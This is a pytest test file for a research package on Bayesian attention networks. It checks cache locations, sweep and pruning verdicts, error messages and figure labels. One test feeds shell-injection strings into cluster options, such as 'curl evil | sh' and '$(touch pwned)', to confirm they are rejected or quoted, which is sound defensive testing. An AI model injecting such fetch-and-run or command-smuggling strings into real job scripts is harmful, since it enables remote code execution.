"""What a hostile but realistic user runs into: nothing deleted or run that was not asked for, verdicts earned.

One test (or more) per finding that has no module of its own to live with:
caches and cluster scripts, verdicts of sweeps and pruning, one-line errors
of whole jobs, what a fresh clone needs, and what the README and figures say.
Output folders are tested in ``test_outputs.py``, the command in
``test_cli.py``, specs in ``test_spec.py``.
"""

import json
import socket
import time
from pathlib import Path

import numpy as np
import pytest
import xarray as xr

import bayes_attn as ba
from bayes_attn import cli, outputs
from conftest import TINY, forbid_calls as _forbid, one_line as _one_line, spec_file as _spec_file

ROOT = Path(__file__).resolve().parents[1]
THEORY_ONLY = TINY | {"compare": TINY["compare"] | {"widths": [3], "sample_widths": []}}
FAST = ["--samples", "10", "--warmup", "10", "--chains", "1", "--no-progress"]


# 5. no code from a received folder: compilation cache and cluster scripts ------------------------------------------
def test_dask_compilation_cache_lives_in_the_users_cache_folder(tmp_path, monkeypatch):
    from bayes_attn.sweep import table

    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    monkeypatch.delenv("BAYES_ATTN_COMPILE_CACHE", raising=False)
    monkeypatch.delenv("BAYES_ATTN_NO_COMPILE_CACHE", raising=False)
    monkeypatch.setattr(cli, "enable_compile_cache", lambda on: None)  # JAX's cache stays off in this process
    seen = {}

    def fake_sweep(spec, out, executor=None, **kw):
        seen["executor"], seen["out"] = executor, out
        raise ValueError("stop here")

    monkeypatch.setattr(table, "sweep", fake_sweep)
    out = tmp_path / "sw"
    assert cli.main(["sweep", str(_spec_file(tmp_path)), "--out", str(out), "--executor", "dask",
                     "--workers", "1"]) == cli.EXIT_USAGE
    cache = Path(seen["executor"].compilation_cache)
    assert cache == tmp_path / "cache" / "bayes_attn" / "jax"
    assert out.resolve() not in cache.resolve().parents


def test_cluster_options_cannot_inject_shell_commands():
    pytest.importorskip("dask_jobqueue")
    from bayes_attn.sweep.executors import DaskJobqueue

    with pytest.raises(ValueError, match="shell code"):
        DaskJobqueue("SLURMCluster", {"job_script_prologue": ["curl evil | sh"]}, workers=1)
    with pytest.raises(ValueError, match="line break"):
        DaskJobqueue("SLURMCluster", {"queue": "normal\ncurl evil | sh"}, workers=1)
    with pytest.raises(ValueError, match="variable names"):
        DaskJobqueue("SLURMCluster", {}, workers=1, env={"A=1; curl evil | sh; B": "x"})
    with pytest.raises(ValueError, match="unknown SLURMCluster option"):
        DaskJobqueue("SLURMCluster", {"not_an_option": 1}, workers=1)
    ex = DaskJobqueue("SLURMCluster", {"queue": "normal; touch pwned", "account": "$(touch pwned)", "cores": 1,
                                       "memory": "1GB"}, workers=1)
    with ex.make_cluster() as cluster:
        script = cluster.job_script()
    assert "'normal; touch pwned'" in script and "'$(touch pwned)'" in script


# 6. verdicts of sweeps and pruning are earned --------------------------------------------------------------
@pytest.mark.slow
def test_sweep_on_unconverged_chains_is_inconclusive_and_exits_3(tmp_path, capsys):
    out = tmp_path / "sw"
    status = cli.main(["sweep", str(_spec_file(tmp_path)), "--out", str(out), "--widths", "3", "--sample-widths", "3",
                       "--samples", "8", "--warmup", "4", "--chains", "2", "--seed", "2", "--no-progress"])
    err = capsys.readouterr().err
    assert status == cli.EXIT_DIAGNOSTICS, err
    assert "WARNING: inconclusive" in err and "N=3" in err
    ds = xr.open_dataset(out / "sweep.nc")
    assert ds.attrs["verdict"] == "inconclusive" and str(ds["verdict"].sel(sample_width=3).values) == "inconclusive"
    assert np.isnan(float(ds["accuracy_sampled_se"].sel(sample_width=3)))  # 2 chains: unavailable, not 0
    ds.close()
    assert json.loads((out / "manifest.json").read_text())["verdict"] == "inconclusive"


def test_inconclusive_points_are_ringed_in_the_sweep_figure(tmp_path):
    from bayes_attn.run import figures

    ds = xr.Dataset(
        {"accuracy_theory": ("width", [0.8, 0.9]), "accuracy_sampled": ("sample_width", [0.7, 0.85]),
         "accuracy_sampled_se": ("sample_width", [np.nan, 0.01]), "verdict": ("sample_width", ["inconclusive", "agree"]),
         "accuracy_gp": ("gp_model", [0.7]),
         "U_theory": (("width", "path", "path_"), np.ones((2, 1, 1))),
         "U_sampled": (("sample_width", "path", "path_"), np.ones((2, 1, 1))),
         "U_mcse": (("sample_width", "path", "path_"), np.zeros((2, 1, 1)))},
        coords={"width": [3, 30], "sample_width": [3, 30], "gp_model": ["whole"], "path": ["1-1"], "path_": ["1-1"]})
    assert figures.inconclusive_points(ds).tolist() == [True, False]
    calls = []
    real = figures.Figure.subplots

    def spy(fig, *a, **k):
        axes = real(fig, *a, **k)
        calls.append(axes)
        return axes

    with pytest.MonkeyPatch.context() as m:
        m.setattr(figures.Figure, "subplots", spy)
        figures.sweep_accuracy(ds, tmp_path / "a.png")
    ax = calls[0][0]
    labels = ax.get_legend_handles_labels()[1]
    assert any("inconclusive" in label for label in labels) and any("none: < 3 chains" in label for label in labels)


def test_prune_verdict_from_rhat_and_divergences(tmp_path, capsys, monkeypatch):
    from bayes_attn.oneshot import pipeline

    ds = xr.Dataset({"rhat_U": ("sample_width", [2.49, 1.0]), "divergences": ("sample_width", [9, 0])},
                    coords={"sample_width": [10, 100]})
    outputs.save(ds, tmp_path / "oneshot.nc")
    v = pipeline.sampling_verdict(tmp_path / "oneshot.nc")
    assert v["verdict"] == "inconclusive" and "N=10" in v["inconclusive_reasons"][0]
    assert "R-hat 2.49" in v["inconclusive_reasons"][0] and "9 divergent" in v["inconclusive_reasons"][0]
    report = {"spearman": {"rho": 0.5, "p_value": 0.1}, "base_accuracy": 0.9, "base_se": 0.01} | v
    monkeypatch.setattr(pipeline, "run_oneshot", lambda *a, **k: report)
    assert cli.main(["prune", "--out", str(tmp_path / "p")]) == cli.EXIT_DIAGNOSTICS
    captured = capsys.readouterr()
    assert "WARNING: inconclusive" in captured.err and captured.out.count("wrote") == 1


# 7. one-line errors, before computing ---------------------------------------------------------------------------


def test_cluster_without_its_submit_command_fails_before_computing(tmp_path, capsys, monkeypatch):
    pytest.importorskip("dask_jobqueue")
    from bayes_attn.sweep import table

    monkeypatch.setenv("PATH", str(tmp_path))  # no sbatch here
    _forbid(monkeypatch, (table, "sweep"))
    data = THEORY_ONLY | {"cluster": {"class": "SLURMCluster", "workers": 1, "cores": 1, "memory": "1GB"}}
    assert cli.main(["sweep", str(_spec_file(tmp_path, data)), "--out", str(tmp_path / "s"), "--executor",
                     "dask"]) == cli.EXIT_USAGE
    assert "'sbatch', which is not on PATH" in _one_line(capsys.readouterr().err)


def test_unreachable_scheduler_fails_fast(tmp_path, capsys, monkeypatch):
    from bayes_attn.sweep import table

    _forbid(monkeypatch, (table, "sweep"))
    with socket.socket() as s:  # a port nobody listens on
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    t0 = time.perf_counter()
    assert cli.main(["sweep", str(_spec_file(tmp_path, THEORY_ONLY)), "--out", str(tmp_path / "s"), "--executor",
                     "dask", "--scheduler", f"tcp://127.0.0.1:{port}"]) == cli.EXIT_USAGE
    assert time.perf_counter() - t0 < 10
    assert "cannot be reached" in _one_line(capsys.readouterr().err)


def test_corrupt_json_attribute_is_a_corrupt_file(tiny, tmp_path):
    import netCDF4

    net, x, y, _ = tiny
    path = ba.solve_theory(net, x, y, temperature=0.5).save(tmp_path / "theory.nc")
    with netCDF4.Dataset(path, "a") as f:
        f.setncattr("head_names", "[[\"a\", ")
    with pytest.raises(outputs.CorruptFileError, match="head_names"):
        ba.load_theory(path)


def test_other_version_missing_versions_and_unknown_sampler(tmp_path, monkeypatch):
    ds = xr.Dataset({"a": ("i", [1.0, 2.0])})
    outputs.save(ds, tmp_path / "ok.nc")
    outputs.load_dataset(tmp_path / "ok.nc")  # this version: no warning (pytest -W error would show one)
    ds.to_netcdf(tmp_path / "bare.nc")
    with pytest.warns(RuntimeWarning, match="records no package versions"):
        outputs.load_dataset(tmp_path / "bare.nc")
    outputs.save(ds.assign_attrs(versions=json.dumps({"bayes_attn": "0.0.1"})), tmp_path / "old.nc")
    with pytest.warns(RuntimeWarning, match="written by bayes_attn 0.0.1"):
        outputs.load_dataset(tmp_path / "old.nc")
    outputs.save(ds.assign_attrs(sampler="magic"), tmp_path / "magic.nc")
    with pytest.raises(outputs.CorruptFileError, match="sampler 'magic'"):
        outputs.load_dataset(tmp_path / "magic.nc", samplers=ba.samplers.SAMPLERS)
    import inspect

    assert "samplers=SAMPLERS" in inspect.getsource(ba.posterior.load_posterior)  # posteriors are loaded so


# 8. the theory is documented in the repository ------------------------------------------------------------------
def test_theory_documentation_ships_and_is_pointed_to(capsys):
    doc = (ROOT / "docs" / "theory.md").read_text()
    for section in ("Network", "Attention paths", "Order parameters", "action", "GP limit", "Head scores",
                    "Wishart", "Omniglot", "Laplace"):
        assert section.lower() in doc.lower(), section
    for command in ("theory", "prune"):
        with pytest.raises(SystemExit):
            cli.main([command, "--help"])
        out = capsys.readouterr().out
        assert "THEORY.md" not in out and "docs/theory.md" in out


# 9. README numbers and figure labels match the commands ------------------------------------------------------


def test_log_axis_ticks_are_plain_numbers_and_heatmap_numbers_readable():
    from matplotlib.figure import Figure

    from bayes_attn.run import figures

    fig = Figure()
    ax = fig.subplots()
    ax.plot([3, 6, 30, 300], [1, 2, 3, 4])
    ax.set_xscale("log")
    figures.plain_log_ticks(ax, "x")
    fig.canvas.draw()
    labels = [t.get_text() for t in ax.get_xticklabels() + ax.get_xticklabels(minor=True) if t.get_text()]
    assert labels and all("times" not in s and "^" not in s for s in labels), labels
    M = np.array([[1.0, 0.0], [0.0, -1.0]])
    heat = Figure().subplots()
    figures.heatmap(heat, M, ["a", "b"], "t", 1.0)
    colours = {t.get_text(): t.get_color() for t in heat.texts}
    assert colours["1.00"] == "white" and colours["0.00"] == "black"
